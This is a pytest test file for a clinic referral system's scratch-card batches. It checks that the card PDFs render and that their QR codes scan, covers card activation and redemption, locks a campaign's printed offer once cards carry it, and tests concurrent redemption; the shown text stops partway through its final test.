"""Scratch-card batches, the card lifecycle and card redemptions, checked on real PDFs."""

import csv
import html
import io
import re
import subprocess
import threading
from datetime import timedelta
from pathlib import Path

import pikepdf
import pypdfium2 as pdfium
import pytest
from PIL import Image, ImageDraw
from sqlalchemy import func, select
from werkzeug.http import http_date

from clinic.extensions import db
from clinic.models import AuditEvent, Campaign, Card, CardBatch, IssuedCode, Referral, Voucher
from clinic.models._time import utcnow
from clinic.services import api_tokens, card_sheet, cards, clinic_settings, colours, jobs, redemption, vouchers
from clinic.services.errors import Refused
from clinic.services.transaction import Actor, atomic
from tests.conftest import CAMPAIGN, counts, friend
from tests.printcheck import decode_pages, embedded_fonts, pdf_text, word_boxes
from tests.test_redemption import run_at_once
from tests.test_rules import set_campaign
from tests.test_web_admin import SETTINGS
from tests.test_web_rules import default_campaign_id, text_of

GIFT_PACK = {**CAMPAIGN,
             "card_referrer_reward_kind": "service", "card_referrer_reward_amount": 0,
             "card_referrer_reward_label": "¥200 meal voucher",
             "card_friend_reward_kind": "service", "card_friend_reward_amount": 0,
             "card_friend_reward_label": "1 bed-day waived (gift pack)"}


@pytest.fixture
def chinese_clinic(app):
    clinic_settings.update_clinic({"name": "港湾口腔 Harbour Dental", "phone": "+86 21 5555 0100"}, Actor())
    clinic_settings.update_default_campaign(GIFT_PACK, Actor())


def generate(size: int, actor: Actor, design: str = "classic", bleed: bool = False) -> CardBatch:
    batch = cards.create_batch(size, design, bleed, actor)
    assert cards.run_batch(batch.id)
    return db.session.get(CardBatch, batch.id)


@pytest.fixture
def activated(app, chinese_clinic, actor, referrer):
    batch = generate(3, actor)
    card = db.session.scalars(select(Card).where(Card.batch_id == batch.id).order_by(Card.id)).first()
    return cards.activate_card(card.serial.lower(), referrer.id, actor)


def test_a_100_card_batch_prints_10_pages_of_distinct_cards_whose_qr_codes_scan(chinese_clinic, actor, tmp_path):
    batch = generate(100, actor, bleed=True)
    path = cards.batch_pdf_path(batch)
    assert batch.status == "done" and path is not None
    with pikepdf.open(path) as pdf:
        assert len(pdf.pages) == 10
    stored = db.session.execute(select(Card.serial, Card.code).where(Card.batch_id == batch.id)).all()
    assert len({serial for serial, _ in stored}) == len({code for _, code in stored}) == 100
    assert all(status == "printed" for status in db.session.scalars(select(Card.status)))

    text = pdf_text(path)
    # Not inside a card code: a code may begin "B245-5458-" (it failed CI once, 2026-11-24).
    printed_serials = set(re.findall(r"(?<![0-9A-Z-])B\d{3}-\d{4}(?![0-9A-Z-])", text))
    printed_codes = {code.replace("-", "") for code in re.findall(r"[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}", text)}
    assert printed_serials == {serial for serial, _ in stored}
    assert printed_codes == {code for _, code in stored}
    assert "港湾口腔 Harbour Dental" in text and "1 bed-day waived (gift pack)" in text
    assert any("NotoSansCJK" in name.replace("-", "") and embedded for name, embedded in embedded_fonts(path))

    pages = decode_pages(path, tmp_path)
    assert [len(page) for page in pages] == [10] * 10
    decoded = [url for page in pages for url in page]
    assert sorted(decoded) == sorted(f"https://clinic.test/r/{code}" for _, code in stored)


@pytest.mark.parametrize("design", cards.DESIGNS)
def test_every_design_renders_and_scans(chinese_clinic, actor, tmp_path, design):
    batch = generate(2, actor, design=design)
    pages = decode_pages(cards.batch_pdf_path(batch), tmp_path)
    codes = set(db.session.scalars(select(Card.code).where(Card.batch_id == batch.id)))
    assert set(pages[0]) == {f"https://clinic.test/r/{code}" for code in codes}


# Where a card's fixed text lies (x0, y0, x1, y1 in mm from the top-left trim corner, no bleed): each holds one
# kind of text on one background, so its most contrasting colour is that text's colour.
CARD_TEXT = {"clinic name": (4, 1, 80, 12), "lead": (4, 14.5, 60, 17.5), "rewards": (4, 18, 60, 25.5)}
DESIGN_DPI = 300


def design_image(design: str):
    """The batch's card design, rasterised."""
    pdf = pdfium.PdfDocument(cards.card_design_pdf(CardBatch(design=design, bleed=False, size=1)))
    try:
        return pdf[0].render(scale=DESIGN_DPI / 72).to_pil().convert("RGB")
    finally:
        pdf.close()


def text_contrast(image, box_mm) -> float:
    """The contrast of a region's text on its background: its commonest colour against its most contrasting one."""
    region = image.crop(tuple(round(v / 25.4 * DESIGN_DPI) for v in box_mm))
    found = region.getcolors(maxcolors=region.width * region.height)
    background = max(found)[1]
    return max(colours.contrast_ratio(colour, background) for _, colour in found)


@pytest.mark.parametrize("brand", ["#fde047", "#00bcd4", "#e91e63", "#1d4ed8"])
@pytest.mark.parametrize("design", cards.DESIGNS)
def test_card_text_reads_whatever_the_brand_colour(app, actor, design, brand):
    """A light brand colour (yellow) gets dark text on it and is darkened where it is text on white, as on posters:
    the card's small type needs 4.5:1."""
    clinic_settings.update_clinic({"brand_colour": brand}, actor)
    image = design_image(design)
    for what, box in CARD_TEXT.items():
        ratio = text_contrast(image, box)
        assert ratio >= 4.5, f"{design} card, {brand}: the {what} reads at {ratio:.2f}:1"


# Card reward labels up to the form's 80 characters, in English and in Chinese; and just over one line's worth.
LONG_LABELS = ("Complimentary professional teeth whitening session plus a ¥300 gift card for you",
               "一次免费的专业洁牙服务外加价值三百元的礼品卡一张以及全家人的年度口腔检查优惠和停车券欢迎您和您的家人朋友一起来到我们的诊所参观"
               "体验更多服务项目并享受专属优惠礼遇")
MEDIUM_LABELS = ("Professional teeth whitening and a ¥300 gift card for you", "一次免费的专业洁牙服务外加价值三百元的礼品卡一张和停车券一张欢迎您")
SCRATCH_TOP, BAND_BOTTOM = 26.0, 13.0  # mm from the card's top (card.css)
LOGO_MAX_WIDTH = 30.5  # mm
CLEARANCE = 0.5  # mm between the offer's last line and the scratch area


# When each side's reward is paid, as the card says it (stage: the friend's words, the referrer's words).
PAID_WHEN = {"en": {"redemption": ("", ""), "visit": ("at their first visit", "after your friend's first visit"),
                    "payment": ("at their first payment", "after your friend's first payment")},
             "zh_CN": {"redemption": ("", ""), "visit": ("（首次就诊时发放）", "（好友首次就诊后发放）"),
                       "payment": ("（首次缴费时发放）", "（好友首次缴费后发放）")}}


def card_offer(tmp_path, design: str) -> str:
    """The text of the card design between the band and the scratch area (the offer), spaces left out."""
    path = tmp_path / "card.pdf"
    path.write_bytes(cards.card_design_pdf(CardBatch(design=design, bleed=False, size=1)))
    (page,) = word_boxes(path)
    return "".join(word for word, _, top, _, bottom in page.words
                   if top >= BAND_BOTTOM and bottom <= SCRATCH_TOP - CLEARANCE)


@pytest.mark.parametrize("language", ["en", "zh_CN"])
@pytest.mark.parametrize(("design", "labels", "stage"),
                         [(design, LONG_LABELS, "payment") for design in cards.DESIGNS]
                         + [("classic", LONG_LABELS, "redemption"), ("classic", MEDIUM_LABELS, "visit")])
def test_long_card_rewards_print_whole_above_the_scratch_area(app, actor, tmp_path, language, design, labels, stage):
    """Up to the form's 80 characters a side, with when each is paid after the longest reward."""
    friend_gets, you_get = labels
    assert len(friend_gets) <= 80 and len(you_get) <= 80
    clinic_settings.update_default_campaign({**GIFT_PACK, "card_friend_reward_label": friend_gets,
                                             "card_referrer_reward_label": you_get}, actor)
    set_campaign(friend_reward_stage=stage, referrer_reward_stage=stage)
    clinic_settings.get_clinic().language = language
    db.session.commit()
    offer = card_offer(tmp_path, design)
    for text in (*labels, *PAID_WHEN[language][stage]):
        assert text.replace(" ", "") in offer, f"{text!r} is not all above the scratch area"


@pytest.mark.parametrize("language", ["en", "zh_CN"])
@pytest.mark.parametrize(("friend_stage", "referrer_stage"),
                         [("redemption", "redemption"), ("visit", "payment"), ("redemption", "visit")])
def test_a_card_says_when_each_reward_is_paid(app, actor, tmp_path, language, friend_stage, referrer_stage):
    """A reward paid at the friend's first visit must not read as paid at the desk: the card is a promise."""
    clinic_settings.update_default_campaign(GIFT_PACK, actor)
    set_campaign(friend_reward_stage=friend_stage, referrer_reward_stage=referrer_stage)
    clinic_settings.get_clinic().language = language
    db.session.commit()
    offer = card_offer(tmp_path, "classic")
    friend_when, referrer_when = PAID_WHEN[language][friend_stage][0], PAID_WHEN[language][referrer_stage][1]
    assert f"1bed-daywaived(giftpack){friend_when}".replace(" ", "") in offer
    assert f"¥200mealvoucher{referrer_when}".replace(" ", "") in offer
    every_when = {phrase.replace(" ", "") for stages in PAID_WHEN.values() for pair in stages.values() for phrase in pair}
    said = {phrase for phrase in every_when - {""} if phrase in offer}
    assert said == {phrase.replace(" ", "") for phrase in (friend_when, referrer_when)} - {""}


NAMES = {"39 characters": "Riverside Family Dental Clinic 河畔家庭口腔诊所",
         "120 characters": ("Harbour Family Dental & Orthodontic Specialists of Greater Shanghai 港湾口腔医院集团上海浦东新区分院 "
                            "International Smile Centre")[:120]}


def wordmark(width: int, height: int) -> io.BytesIO:
    """A logo as wide as a clinic's wordmark: a bar with a dark ring at each end (a squashed ring shows)."""
    image = Image.new("RGB", (width, height), "#0f766e")
    draw = ImageDraw.Draw(image)
    for left in (0, width - height):
        draw.ellipse((left, 0, left + height - 1, height - 1), outline="#111111", width=max(2, height // 10))
    stream = io.BytesIO()
    image.save(stream, "PNG")
    stream.seek(0)
    return stream


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(("design", "shape"), [("classic", (1200, 200)), ("classic", (2000, 100)),
                                               ("bold", (1200, 200)), ("minimal", (2000, 100))])
def test_a_long_clinic_name_beside_a_wide_logo_stays_whole_in_the_band(app, actor, tmp_path, design, shape, name):
    """A 6:1 wordmark left a 39-character name four lines, cut top and bottom; a 20:1 logo pushed it off the card."""
    clinic_settings.update_clinic({"name": NAMES[name], "logo_filename": clinic_settings.save_logo(
        wordmark(*shape), app.config["UPLOAD_FOLDER"])}, actor)
    path = tmp_path / "card.pdf"
    path.write_bytes(cards.card_design_pdf(CardBatch(design=design, bleed=False, size=1)))
    (page,) = word_boxes(path)
    band = [(word, box) for word, *box in page.words if box[1] < BAND_BOTTOM]
    assert "".join(word for word, _ in band) == NAMES[name].replace(" ", "")
    outside = [word for word, (x0, y0, x1, y1) in band if x0 < 0 or x1 > page.width or y0 < 0 or y1 > BAND_BOTTOM]
    assert not outside, f"the clinic name runs out of the band: {outside}"
    listing = subprocess.run(["pdfimages", "-list", str(path)], capture_output=True, text=True, check=True).stdout
    [logo] = [line.split() for line in listing.splitlines()[2:]]
    x_ppi, y_ppi = float(logo[12]), float(logo[13])
    assert abs(x_ppi - y_ppi) <= 1, f"the logo is distorted: {x_ppi} x {y_ppi} ppi"
    assert int(logo[3]) / x_ppi * 25.4 <= LOGO_MAX_WIDTH, "the logo leaves the name too little room"


def test_card_codes_never_repeat_a_voucher_code(chinese_clinic, actor, referrer, monkeypatch):
    taken = redemption.redeem_code(referrer.personal_code, friend(), actor).friend_voucher.code
    fresh = iter([taken, "0" * 11])
    real = cards.generate_bearer_code

    def first_a_taken_code():
        value = next(fresh, None)
        if value == "0" * 11:
            return real()
        return value or real()

    monkeypatch.setattr(cards, "generate_bearer_code", first_a_taken_code)
    batch = generate(1, actor)
    code = db.session.scalar(select(Card.code).where(Card.batch_id == batch.id))
    assert code != taken
    kinds = dict(db.session.execute(select(IssuedCode.kind, func.count()).group_by(IssuedCode.kind)).all())
    assert kinds == {"voucher": 2, "card": 1}


def test_a_failing_job_leaves_no_half_batch_and_can_be_retried(chinese_clinic, actor, monkeypatch, app):
    real_write = cards.write_card_sheets

    def write_half_then_fail(design, printed, out, **kwargs):
        for index, _ in enumerate(printed):
            if index == 15:
                out.write(b"%PDF- half")
                raise OSError("disk full")

    monkeypatch.setattr(cards, "write_card_sheets", write_half_then_fail)
    batch = cards.create_batch(30, "classic", False, actor)
    assert cards.run_batch(batch.id) is False
    failed = db.session.get(CardBatch, batch.id)
    assert failed.status == "failed" and "disk full" in failed.error
    assert db.session.scalar(select(func.count()).select_from(Card)) == 0
    assert db.session.scalar(select(func.count()).select_from(IssuedCode).where(IssuedCode.kind == "card")) == 0
    assert list(Path(app.config["BATCH_FOLDER"]).iterdir()) == []

    monkeypatch.setattr(cards, "write_card_sheets", real_write)
    cards.retry_batch(batch.id, actor)
    assert cards.run_batch(batch.id)
    done = db.session.get(CardBatch, batch.id)
    assert (done.status, done.attempts) == ("done", 2)
    assert db.session.scalar(select(func.count()).select_from(Card)) == 30


def test_a_batch_folder_that_cannot_be_made_fails_the_batch_with_the_reason(chinese_clinic, actor, app, tmp_path):
    """A worker whose user may not create the folder (a path under a file here; under root's folder in production):
    the batch ends failed with the reason, not left running until its heartbeat goes stale."""
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    app.config["BATCH_FOLDER"] = str(blocker / "batches")
    batch = cards.create_batch(5, "classic", False, actor)
    assert cards.run_batch(batch.id) is False
    failed = db.session.get(CardBatch, batch.id)
    assert failed.status == "failed" and "NotADirectoryError" in failed.error
    assert db.session.scalar(select(func.count()).select_from(Card)) == 0


def test_a_killed_job_is_seen_as_failed_and_retried(chinese_clinic, actor):
    batch = cards.create_batch(12, "bold", False, actor)
    with atomic():  # the process running it died half way: it had claimed the batch, then nothing
        killed = db.session.get(CardBatch, batch.id)
        killed.status, killed.progress, killed.attempts = "running", 6, 1
        killed.heartbeat_at = utcnow() - cards.STALE_AFTER - timedelta(seconds=1)
    assert cards.effective_status(db.session.get(CardBatch, batch.id)) == "failed"
    assert db.session.scalar(select(func.count()).select_from(Card)) == 0
    cards.retry_batch(batch.id, actor)
    assert cards.run_batch(batch.id)
    assert db.session.scalar(select(func.count()).select_from(Card)) == 12


def test_a_running_job_cannot_be_retried_or_claimed_twice(chinese_clinic, actor):
    batch = cards.create_batch(5, "classic", False, actor)
    with atomic():
        running = db.session.get(CardBatch, batch.id)
        running.status, running.heartbeat_at = "running", utcnow()
    with pytest.raises(Refused) as refused:
        cards.retry_batch(batch.id, actor)
    assert refused.value.reason == "not_failed"
    assert cards.run_batch(batch.id) is False


def test_activation_rules(chinese_clinic, actor, referrer, make_patient):
    batch = generate(2, actor)
    first, second = db.session.scalars(select(Card).where(Card.batch_id == batch.id).order_by(Card.id)).all()
    card = cards.activate_card(f"  {first.serial.lower()} ", referrer.id, actor)
    assert (card.status, card.patient_id) == ("activated", referrer.id)
    other, _ = make_patient(full_name="Someone")
    for raw, reason in [(first.serial, "already_activated"), ("B999-9999", "unknown_card"),
                        ("not a serial", "bad_serial"), ("", "bad_serial")]:
        with pytest.raises(Refused) as refused:
            cards.activate_card(raw, other.id, actor)
        assert refused.value.reason == reason
    assert db.session.get(Card, first.id).patient_id == referrer.id
    assert db.session.get(Card, second.id).status == "printed"


def test_a_card_pays_the_gift_pack_rewards_once(activated, actor, referrer):
    result = redemption.redeem_code(activated.code, friend(), actor)
    by_side = {v.beneficiary: v for v in result.vouchers}
    assert by_side["referrer"].patient_id == referrer.id and by_side["referrer"].label == "¥200 meal voucher"
    assert by_side["friend"].label == "1 bed-day waived (gift pack)"
    assert result.referral.card_id == activated.id
    assert db.session.get(Card, activated.id).status == "redeemed"
    before = counts()
    with pytest.raises(Refused) as refused:
        redemption.redeem_code(activated.code, friend(full_name="Second", phone="13900000002"), actor)
    assert refused.value.reason == "already_redeemed" and "already redeemed" in refused.value.message
    assert counts() == before


SMALLER_OFFER = {"name": "Smaller offer", "covers": "both", "voucher_valid_days": "30",
                 "referrer_reward_kind": "money", "referrer_reward_amount": "10", "referrer_reward_stage": "redemption",
                 "friend_reward_kind": "money", "friend_reward_amount": "5", "friend_reward_stage": "redemption"}


def desk_offer(desk, code: str) -> tuple[int, list[str], str]:
    """What the desk sees for a code before Redeem: the status, the rewards it names and the page."""
    page = desk.post("/desk/lookup", {"code": code}, htmx=True)
    text = html.unescape(page.get_data(as_text=True))
    return page.status_code, re.findall(r"gets <strong>([^<]*)</strong>", text), text


def redeem_at_the_desk(desk, code: str, phone: str) -> str:
    """The friend's details confirmed at the desk; the receipt it shows."""
    receipt = desk.post("/desk/redeem", {"code": code, "full_name": f"Friend {phone[-4:]}", "phone": phone,
                                         "display_name": "", "external_id": ""}, htmx=True)
    assert receipt.status_code == 200, receipt.get_data(as_text=True)
    return html.unescape(receipt.get_data(as_text=True))


def paid_to(code: str) -> dict[str, str]:
    referral = db.session.scalar(select(Referral).where(Referral.code_used == code))
    paid = {voucher.beneficiary: voucher.label or str(voucher.amount) for voucher in referral.vouchers}
    db.session.rollback()
    return paid


def test_a_card_pays_the_offer_printed_on_it_while_its_campaign_runs(manager, desk, chinese_clinic, actor, referrer):
    """A newer campaign does not change what a card already in a friend's hand pays: its batch's campaign does."""
    card = cards.activate_card(db.session.scalar(select(Card.serial).where(Card.batch_id == generate(1, actor).id)),
                               referrer.id, actor)
    assert manager.post("/admin/campaigns/new", SMALLER_OFFER).status_code == 303  # newer, covers cards too

    status, offer, page = desk_offer(desk, card.code)
    assert status == 200 and offer == ["1 bed-day waived (gift pack)", "¥200 meal voucher"]
    assert "printed-campaign-ended" not in page
    assert "1 bed-day waived (gift pack)" in html.unescape(desk.get(f"/r/{card.code}").get_data(as_text=True))
    receipt = redeem_at_the_desk(desk, card.code, "13900000001")
    assert paid_to(card.code) == {"friend": "1 bed-day waived (gift pack)", "referrer": "¥200 meal voucher"}
    assert "printed-campaign-ended" not in receipt
    # A personal code pays the newest running campaign, as before.
    redeem_at_the_desk(desk, referrer.personal_code, "13900000002")
    assert paid_to(referrer.personal_code) == {"friend": "500", "referrer": "1000"}


def test_a_card_whose_campaign_has_ended_pays_today_s_offer_and_the_desk_says_so(manager, desk, chinese_clinic,
                                                                                  actor, referrer):
    batch = generate(2, actor)
    serials = db.session.scalars(select(Card.serial).where(Card.batch_id == batch.id).order_by(Card.id)).all()
    first, second = (cards.activate_card(serial, referrer.id, actor) for serial in serials)
    assert manager.post("/admin/campaigns/new", SMALLER_OFFER).status_code == 303
    with atomic():
        db.session.get(CardBatch, batch.id).campaign.ends_at = utcnow() - timedelta(minutes=1)

    status, offer, page = desk_offer(desk, first.code)
    assert status == 200 and offer == ["CN¥5.00 off", "CN¥10.00 off"]
    assert "printed for the campaign “Bring a friend”, which has ended" in page and "“Smaller offer”" in page
    assert "CN¥5.00 off" in html.unescape(desk.get(f"/r/{first.code}").get_data(as_text=True))
    receipt = redeem_at_the_desk(desk, first.code, "13900000001")
    assert paid_to(first.code) == {"friend": "500", "referrer": "1000"}
    assert "Your card was printed for an offer that no longer applies" in receipt

    with atomic():
        db.session.scalar(select(Campaign).where(Campaign.name == "Smaller offer")).ends_at = utcnow()
    status, offer, page = desk_offer(desk, second.code)
    assert status == 409 and offer == [] and "The referral campaign has ended" in page


@pytest.mark.parametrize(("change", "said"), [
    ({"covers": "personal"}, "which no longer covers scratch cards: it pays the rewards of today's campaign for cards"),
    ({"starts_at": utcnow() + timedelta(days=3)}, "whose start has been moved later"),
])
def test_the_desk_says_why_a_card_s_printed_campaign_no_longer_pays_it(manager, desk, chinese_clinic, actor, referrer,
                                                                        change, said):
    """Not "has ended" for a campaign that still runs for personal codes, or that a manager moved to start later."""
    card = cards.activate_card(db.session.scalar(select(Card.serial).where(Card.batch_id == generate(1, actor).id)),
                               referrer.id, actor)
    assert manager.post("/admin/campaigns/new", SMALLER_OFFER).status_code == 303
    set_campaign(**change)  # the printed (default) campaign

    status, offer, page = desk_offer(desk, card.code)
    assert status == 200 and offer == ["CN¥5.00 off", "CN¥10.00 off"]
    assert f"printed for the campaign “Bring a friend”, {said}" in page and "“Smaller offer”" in page
    assert "has ended" not in page
    receipt = redeem_at_the_desk(desk, card.code, "13900000001")
    assert paid_to(card.code) == {"friend": "500", "referrer": "1000"}
    assert "Your card was printed for an offer that no longer applies" in receipt


# The offer printed on cards

# The gift-pack campaign (GIFT_PACK) as its form shows it: saved unchanged, nothing changes.
GIFT_PACK_FORM = {"name": "Bring a friend", "starts_at": "", "ends_at": "", "covers": "both",
                  "referrer_reward_kind": "money", "referrer_reward_amount": "200", "referrer_reward_label": "",
                  "referrer_reward_stage": "redemption",
                  "friend_reward_kind": "service", "friend_reward_amount": "",
                  "friend_reward_label": "1 bed-day waived",
                  "friend_reward_stage": "redemption", "card_rewards_differ": "y",
                  "card_referrer_reward_kind": "service", "card_referrer_reward_amount": "",
                  "card_referrer_reward_label": "¥200 meal voucher",
                  "card_friend_reward_kind": "service", "card_friend_reward_amount": "",
                  "card_friend_reward_label": "1 bed-day waived (gift pack)",
                  "voucher_valid_days": "90", "cap_referrals_per_year": "", "cap_value_per_year": "",
                  "friend_monthly_quota": "", "quota_label": ""}
# Changes of what a gift-pack card prints (or when it pays), each with the field the refusal is shown next to.
PRINTED_CHANGES = [
    ({"card_friend_reward_label": "Half a bed-day waived"}, "card_friend_reward_label"),
    ({"card_referrer_reward_label": "¥100 meal voucher"}, "card_referrer_reward_label"),
    ({"card_friend_reward_kind": "money", "card_friend_reward_amount": 5000, "card_friend_reward_label": ""},
     "card_friend_reward_kind"),
    ({"friend_reward_stage": "payment"}, "friend_reward_stage"),
    ({"referrer_reward_stage": "visit"}, "referrer_reward_stage"),
    # Cards then pay as personal codes do: the friend one bed-day waived, without "(gift pack)".
    ({f"card_{side}_reward_{part}": None for side in ("referrer", "friend") for part in ("kind", "amount", "label")},
     "friend_reward_label"),
]
# Changes of what no card prints: the days, the codes covered, caps, quota, validity, the name, and the personal
# codes' rewards when cards pay their own.
UNPRINTED_CHANGES = {"name": "Gift pack 2027", "ends_at": utcnow() + timedelta(days=30), "covers": "cards",
                     "cap_referrals_per_year": 5, "cap_value_per_year": 100_000, "friend_monthly_quota": 30,
                     "quota_label": "gift packs", "voucher_valid_days": 30, "referrer_reward_amount": 15_000,
                     "friend_reward_label": "Free first consultation", "card_friend_reward_amount": 7}


def campaign_row(campaign_id: int) -> dict:
    row = db.session.get(Campaign, campaign_id, populate_existing=True)
    snapshot = {column.name: getattr(row, column.name) for column in Campaign.__table__.columns}
    db.session.rollback()
    return snapshot


def audit_events() -> int:
    return db.session.scalar(select(func.count()).select_from(AuditEvent))


@pytest.mark.parametrize(("change", "field", "through"), [
    (change, field, through) for change, field in PRINTED_CHANGES for through in ("update_campaign",
                                                                                  "update_default_campaign")
    if through == "update_campaign" or not field.endswith("_stage")])  # the default campaign's setter sets no stage
def test_the_offer_printed_on_cards_that_can_still_be_redeemed_cannot_change(activated, manager_user, change, field,
                                                                              through):
    campaign_id = default_campaign_id()
    before, audited = campaign_row(campaign_id), audit_events()
    manager = Actor(staff_id=manager_user.id)
    with pytest.raises(Refused) as refused:
        if through == "update_campaign":
            clinic_settings.update_campaign(campaign_id, change, manager)
        else:
            clinic_settings.update_default_campaign({**GIFT_PACK, **change}, manager)
    assert (refused.value.reason, refused.value.status, refused.value.field) == ("offer_printed", 409, field)
    assert refused.value.message.startswith("3 scratch cards that can still be redeemed print this campaign's offer")
    assert campaign_row(campaign_id) == before
    event = db.session.scalar(select(AuditEvent).order_by(AuditEvent.id.desc()))
    assert audit_events() == audited + 1
    assert (event.action, event.outcome, event.reason, event.staff_id) == (
        "campaign.change", "refused", "offer_printed", manager_user.id)
    assert event.details == {"campaign_id": campaign_id, "cards": 3, "field": field}


def test_what_no_card_prints_still_changes(activated, actor):
    campaign_id = default_campaign_id()
    clinic_settings.update_campaign(campaign_id, GIFT_PACK | {"covers": "both"}, actor)  # the same terms again
    clinic_settings.update_campaign(campaign_id, UNPRINTED_CHANGES, actor)
    row = campaign_row(campaign_id)
    assert {field: row[field] for field in UNPRINTED_CHANGES} == UNPRINTED_CHANGES
    # A service's amount and a money reward's label print nowhere: what the card says is the same.
    assert clinic_settings.printed_card_offer(db.session.get(Campaign, campaign_id)) == (
        clinic_settings.RewardTerms("service", 0, "1 bed-day waived (gift pack)"),
        clinic_settings.RewardTerms("service", 0, "¥200 meal voucher"))


def test_the_offer_changes_again_once_no_card_can_redeem_it(chinese_clinic, actor, referrer, manager_user):
    """Redeemed and void cards are owed nothing more; a queued batch's cards will print the offer."""
    campaign_id = default_campaign_id()
    batch = generate(2, actor)
    used, lost = db.session.scalars(select(Card).where(Card.batch_id == batch.id).order_by(Card.id)).all()
    cards.activate_card(used.serial, referrer.id, actor)
    redemption.redeem_code(used.code, friend(), actor)
    assert clinic_settings.cards_carrying_offer(campaign_id) == 1
    cards.void_card(lost.serial, "Lost on the ward", Actor(staff_id=manager_user.id))
    assert clinic_settings.cards_carrying_offer(campaign_id) == 0
    clinic_settings.update_campaign(campaign_id, {"card_friend_reward_label": "Two bed-days waived"}, actor)

    queued = cards.create_batch(4, "classic", False, actor)
    assert clinic_settings.cards_carrying_offer(campaign_id) == 4
    with pytest.raises(Refused, match="^4 scratch cards"):
        clinic_settings.update_campaign(campaign_id, {"card_friend_reward_label": "Three bed-days waived"}, actor)
    with atomic():
        db.session.get(CardBatch, queued.id).status = "failed"  # a failed batch has no cards; retried, it prints anew
    assert clinic_settings.cards_carrying_offer(campaign_id) == 0


def test_a_card_redeemed_after_a_refused_change_pays_its_printed_offer(activated, actor, manager_user):
    with pytest.raises(Refused):
        clinic_settings.update_campaign(default_campaign_id(), {"card_friend_reward_label": "Half a bed-day waived",
                                                                "card_referrer_reward_label": "¥50 meal voucher"},
                                        Actor(staff_id=manager_user.id))
    result = redemption.redeem_code(activated.code, friend(), actor)
    assert {voucher.beneficiary: voucher.label for voucher in result.vouchers} == {
        "friend": "1 bed-day waived (gift pack)", "referrer": "¥200 meal voucher"}


def test_a_change_waits_for_a_batch_being_queued_and_then_sees_it(app, actor):
    """The database orders the two: the batch's INSERT locks its campaign (foreign key), the change locks it FOR
    UPDATE, so a change that came while a batch was being queued waits for it and is refused (without the lock, on
    PostgreSQL, it read no batch and changed the offer the batch was about to print)."""
    campaign_id = default_campaign_id()
    inserted, proceed, outcome = threading.Event(), threading.Event(), []

    def queue_a_batch():
        with app.app_context():
            try:
                with atomic():
                    db.session.add(CardBatch(size=5, design="classic", bleed=False, campaign_id=campaign_id))
                    db.session.flush()
                    inserted.set()
                    proceed.wait(10)
            finally:
                db.session.remove()

    def change_the_offer():
        with app.app_context():
            try:
                clinic_settings.update_campaign(campaign_id, {"friend_reward_label": "Half a bed-day waived"}, actor)
                outcome.append("changed")
            except Refused as refusal:
                outcome.append(refusal.reason)
            finally:
                db.session.remove()

    batch = threading.Thread(target=queue_a_batch)
    batch.start()
    assert inserted.wait(10)
    change = threading.Thread(target=change_the_offer)
    change.start()
    change.join(0.5)
    waited = change.is_alive()
    proceed.set()
    batch.join(10)
    change.join(10)
    assert waited and outcome == ["offer_printed"]
    assert campaign_row(campaign_id)["friend_reward_label"] == "1 bed-day waived"


def test_the_campaign_form_refuses_a_change_of_the_printed_offer_and_says_what_to_do(manager, activated):
    campaign_id = default_campaign_id()
    page = text_of(manager.get(f"/admin/campaigns/{campaign_id}"))
    assert "3 scratch cards that can still be redeemed print this campaign's offer" in page
    before, audited = campaign_row(campaign_id), audit_events()
    for url in (f"/admin/campaigns/{campaign_id}", "/admin/campaign"):  # the default campaign's former page too
        refused = manager.post(url, {**GIFT_PACK_FORM, "card_friend_reward_label": "Half a bed-day waived"})
        page = text_of(refused)
        assert refused.status_code == 409
        assert "Nothing was saved" in page and 'value="Half a bed-day waived"' in page
        error = re.search(r'<p class="field-error" id="card_friend_reward_label-error" role="alert">([^<]*)</p>', page)
        assert error and error.group(1).startswith("3 scratch cards that can still be redeemed print")
        assert "create a new campaign; ending this one makes its unredeemed cards pay the campaign in force" in page
    assert campaign_row(campaign_id) == before and audit_events() == audited + 2

    saved = manager.post(f"/admin/campaigns/{campaign_id}",
                         {**GIFT_PACK_FORM, "name": "Gift pack", "ends_at": "2099-12-31"})
    assert saved.status_code == 303
    assert campaign_row(campaign_id)["name"] == "Gift pack"


def test_the_campaign_form_says_posters_printed_earlier_keep_their_offer(manager):
    page = text_of(manager.get(f"/admin/campaigns/{default_campaign_id()}"))
    assert "Posters print the friend's reward in force on the day they are made, and keep showing it" in page
    assert "scratch cards that can still be redeemed" not in page  # no card printed yet


def test_the_currency_stays_while_cards_print_an_amount_in_it(manager, activated, actor):
    """A card printed "CN¥200.00 off" would pay ¥200 in yen; cards that print only services do not hold it."""
    settings = {**SETTINGS, "currency": "JPY"}
    assert manager.post("/admin/settings", settings).status_code == 303  # the gift pack prints services only
    assert manager.post("/admin/settings", {**settings, "currency": "CNY"}).status_code == 303
    campaign_id = default_campaign_id()
    for batch_id in db.session.scalars(select(CardBatch.id)).all():
        cards.void_batch(batch_id, "Reprinted with money off", actor)
    clinic_settings.update_campaign(campaign_id, {"card_friend_reward_kind": "money",
                                                  "card_friend_reward_amount": 5000}, actor)
    generate(2, actor)
    refused = manager.post("/admin/settings", settings)
    assert refused.status_code == 422
    assert ("2 scratch cards that can still be redeemed print amounts in CNY: the currency cannot change while "
            "they are out.") in text_of(refused)
    assert clinic_settings.current_clinic().currency == "CNY"


def test_cards_not_activated_or_void_are_refused_with_their_own_message(chinese_clinic, actor, referrer):
    batch = generate(2, actor)
    printed, lost = db.session.scalars(select(Card).where(Card.batch_id == batch.id).order_by(Card.id)).all()
    cards.activate_card(lost.serial, referrer.id, actor)
    cards.void_card(lost.serial, "Lost on the ward", Actor(staff_id=actor.staff_id))
    before = counts()
    messages = {}
    for card, reason in [(printed, "card_not_activated"), (lost, "card_void")]:
        with pytest.raises(Refused) as refused:
            redemption.redeem_code(card.code, friend(), actor)
        assert refused.value.reason == reason
        messages[reason] = refused.value.message
    assert "never given to a patient" in messages["card_not_activated"]
    assert "Lost on the ward" in messages["card_void"]
    assert counts() == before


def test_fifty_desks_redeeming_one_card_at_once_pay_exactly_once(app, activated, actor):
    code = activated.code
    before = counts()
    outcomes = run_at_once(app, 50, lambda index: redemption.redeem_code(
        code, friend(full_name=f"Friend {index}", phone=f"1390000{index:04d}"), actor).referral.id)
    assert [o for o in outcomes if o[0] == "error"] == []
    assert sum(1 for o in outcomes if o[0] == "ok") == 1
    assert {o[1] for o in outcomes if o[0] == "refused"} == {"already_redeemed"}
    after = counts()
